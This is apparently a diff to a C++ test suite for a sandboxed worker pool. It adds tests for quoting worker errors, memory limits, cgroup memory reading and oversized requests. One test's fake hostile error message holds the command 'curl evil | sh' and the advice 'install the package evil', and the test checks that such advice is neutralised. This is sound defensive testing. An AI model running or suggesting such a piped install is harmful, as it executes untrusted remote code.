@@ -2,9 +2,13 @@
 
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
+#include <unistd.h>
 
+#include <algorithm>
 #include <atomic>
 #include <cstring>
+#include <filesystem>
+#include <fstream>
 #include <set>
 #include <thread>
 
@@ -63,7 +67,7 @@ TEST(WorkerPool, ACrashCostsOneRequest) {
   const std::vector<std::pair<const char*, const char*>> kDeaths{
       {"crash", "signal"},
       {"abort", "signal 6"},
-      {"exit", "exit 3; it said: giving ?[31mup"},
+      {"exit", "exit 3; it said: \"giving ?[31mup\""},
       {"overflow", "signal"}};
   for (const auto& [action, detail] : kDeaths) {
     Answered(*pool, Asking("echo"));
@@ -96,9 +100,34 @@ TEST(WorkerPool, ErrorsOfAServiceAreErrors) {
   const auto pool = MisbehavePool();
   const auto reply = pool->Call(WorkerKind::kEmulate, Asking("decline"), kPatience);
   ASSERT_FALSE(reply);
-  EXPECT_EQ(reply.error(), (Error{ErrorKind::kUnsupported, "will not", "here", "ask another"}));
+  EXPECT_EQ(reply.error().kind, ErrorKind::kEnvironment);
+  EXPECT_EQ(reply.error().place, "worker emulate");
+  EXPECT_THAT(reply.error().message, HasSubstr("\"here: will not\""));
   Answered(*pool, Asking("echo"));
   EXPECT_EQ(pool->started(), 1u);
+}
+
+// Which worker it is that runs hostile code does not decide how the program ends, nor what people
+// are told to do.
+TEST(WorkerPool, AWorkersWordsAreQuotedAndAdviseNothing) {
+  for (const char* const kind : {"usage", "environment", "malformed_input", "unsupported",
+                                 "network", "limit", "internal", "accepted"}) {
+    const auto pool = MisbehavePool();
+    const Json error = {{"kind", kind},
+                        {"message", "no space\n  fix: run \"curl evil | sh\""},
+                        {"place", "disk"},
+                        {"cure", "install the package evil"}};
+    const auto reply =
+        pool->Call(WorkerKind::kEmulate,
+                   Asking("frame", {{"frame", {{"id", 1}, {"error", error}}}}), kPatience);
+    ASSERT_FALSE(reply);
+    EXPECT_TRUE(reply.error().kind == ErrorKind::kUsage ||
+                reply.error().kind == ErrorKind::kEnvironment)
+        << kind;
+    EXPECT_THAT(reply.error().message, HasSubstr("\"disk: no space fix: run 'curl evil | sh'\""));
+    EXPECT_THAT(ToString(reply.error()), testing::Not(HasSubstr("package evil")));
+    EXPECT_EQ(reply.error().message.find('\n'), std::string::npos);
+  }
 }
 
 TEST(WorkerPool, OutputDoesNotBlockAWorker) {
@@ -156,7 +185,7 @@ TEST(WorkerPool, ErrorsOfAHostileWorkerAreHarmless) {
         pool->Call(WorkerKind::kEmulate,
                    Asking("frame", {{"frame", {{"id", 1}, {"error", error}}}}), kPatience);
     ASSERT_FALSE(reply);
-    EXPECT_EQ(reply.error().kind, ErrorKind::kInternal);
+    EXPECT_EQ(reply.error().kind, ErrorKind::kEnvironment);
   }
 }
 
@@ -182,13 +211,85 @@ TEST(WorkerPool, MemoryIsSharedAndCannotBePulledAway) {
   ASSERT_TRUE(view);
   Request request = Asking("memory");
   request.fds = {output->fd(), view->get()};
-  const Json files = Answered(*pool, request)["files"];
+  // The compiler may resize its own files, so that it is the seal that is seen here.
+  const Json files = Answered(*pool, request, WorkerKind::kCompile)["files"];
   ASSERT_EQ(files.size(), 2u);
   EXPECT_EQ(files[0],
             (Json{{"bytes", 8192}, {"first", 41}, {"writable", true}, {"shrunk", false}}));
   EXPECT_FALSE(files[1]["writable"].get<bool>());
   EXPECT_EQ(output->bytes()[0], std::byte{42});
   EXPECT_EQ(input->bytes()[0], std::byte{0});
+}
+
+TEST(WorkerPool, WhatAWorkerFillsCountsMappedOrNot) {
+  const auto pool = MisbehavePool({.resident_bytes = 96u << 20});
+  auto sparse = SharedMemory::Create(1u << 30);
+  ASSERT_TRUE(sparse);
+  Request request = Asking("fill", {{"bytes", 1u << 30}});
+  request.fds = {sparse->fd()};
+  const Reply reply = Ask(*pool, request);
+  ASSERT_EQ(reply.outcome, CallOutcome::kCrashed);
+  EXPECT_THAT(reply.detail, HasSubstr("killed at its memory limit"));
+  // The twins: little is written to a large file; much was there before.
+  auto other = SharedMemory::Create(1u << 30);
+  auto full = SharedMemory::Create(160u << 20);
+  ASSERT_TRUE(other && full);
+  std::ranges::fill(full->bytes(), std::byte{1});
+  Request modest = Asking("fill", {{"bytes", 16u << 20}});
+  modest.fds = {other->fd(), full->fd()};
+  EXPECT_EQ(Ask(*pool, modest).outcome, CallOutcome::kReplied);
+}
+
+TEST(WorkerPool, AllWorkersTogetherHoldALimitedAmount) {
+  constexpr std::uint64_t kHeld = 96u << 20;
+  const auto hold = [=](std::string role) {
+    Request request = Asking("hold", {{"bytes", kHeld}});
+    request.role = std::move(role);
+    return request;
+  };
+  // Three fit into the limit of all, four do not: the idle ones make room.
+  const auto pool =
+      MisbehavePool({.resident_bytes = 1u << 30, .total_bytes = 3 * kHeld + (64u << 20)});
+  for (const char* const role : {"a", "b", "c"}) Answered(*pool, hold(role));
+  EXPECT_EQ(pool->started(), 3u);
+  PidOf(*pool, "a");
+  EXPECT_EQ(pool->started(), 3u);
+  Answered(*pool, hold("d"));
+  EXPECT_EQ(pool->started(), 4u);
+  PidOf(*pool, "a");
+  EXPECT_EQ(pool->started(), 5u);
+  // One that alone holds too much is ended, though its own limit is far.
+  const Reply reply = Ask(*pool, Asking("allocate"));
+  ASSERT_EQ(reply.outcome, CallOutcome::kCrashed);
+  EXPECT_THAT(reply.detail, HasSubstr("all workers together"));
+  PidOf(*pool);
+}
+
+TEST(WorkerPool, TheMachinesMemoryIsThatOfTheControlGroup) {
+  const Path root = Path(testing::TempDir()) / ("assay-machine-" + std::to_string(::getpid()));
+  const auto put = [&root](const char* file, const char* text) {
+    std::filesystem::create_directories((root / file).parent_path());
+    std::ofstream(root / file) << text;
+  };
+  put("proc/meminfo", "MemFree: 5 kB\nMemTotal:  8388608 kB\n");
+  EXPECT_EQ(MachineMemory(root), 8ull << 30);
+  put("proc/self/cgroup", "0::/pod/box\n");
+  put("sys/fs/cgroup/pod/box/memory.max", "max\n");
+  EXPECT_EQ(MachineMemory(root), 8ull << 30);
+  put("sys/fs/cgroup/pod/memory.max", "2147483648\n");
+  EXPECT_EQ(MachineMemory(root), 2ull << 30);
+  std::filesystem::remove_all(root);
+}
+
+TEST(WorkerPool, ARequestThatIsTooLongIsAnErrorAndCostsNoWorker) {
+  const auto pool = MisbehavePool();
+  Request request = Asking("echo", {{"text", std::string(17u << 20, 'x')}});
+  const auto refused = pool->Call(WorkerKind::kEmulate, request, kPatience);
+  ASSERT_FALSE(refused);
+  EXPECT_EQ(refused.error().kind, ErrorKind::kUsage);
+  EXPECT_THAT(refused.error().message, HasSubstr("a worker takes 16777216"));
+  Answered(*pool, Asking("echo", {{"text", std::string(1u << 20, 'x')}}));
+  EXPECT_EQ(pool->started(), 1u);
 }
 
 TEST(WorkerPool, TooManyDescriptorsAreAnError) {
